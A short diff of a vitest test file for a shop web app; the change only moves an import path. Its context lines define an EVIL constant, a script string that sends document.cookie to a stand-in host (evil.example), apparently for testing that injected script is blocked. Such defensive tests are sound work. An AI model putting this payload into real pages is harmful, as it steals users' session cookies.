@@ -3,7 +3,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { products } from '#shop/catalog/tables.ts';
 import { openTestShop, type TestShop } from '#tests/support/open-test-shop.ts';
 import { plainPages } from '#tests/support/plain-pages.ts';
-import { requestContext } from '#web/request-context.server.ts';
+import { requestContext } from '#web/frame/request-context.server.ts';
 
 const EVIL = 'fetch("https://evil.example/" + document.cookie)';
 const OWN = 'startTheShop()';
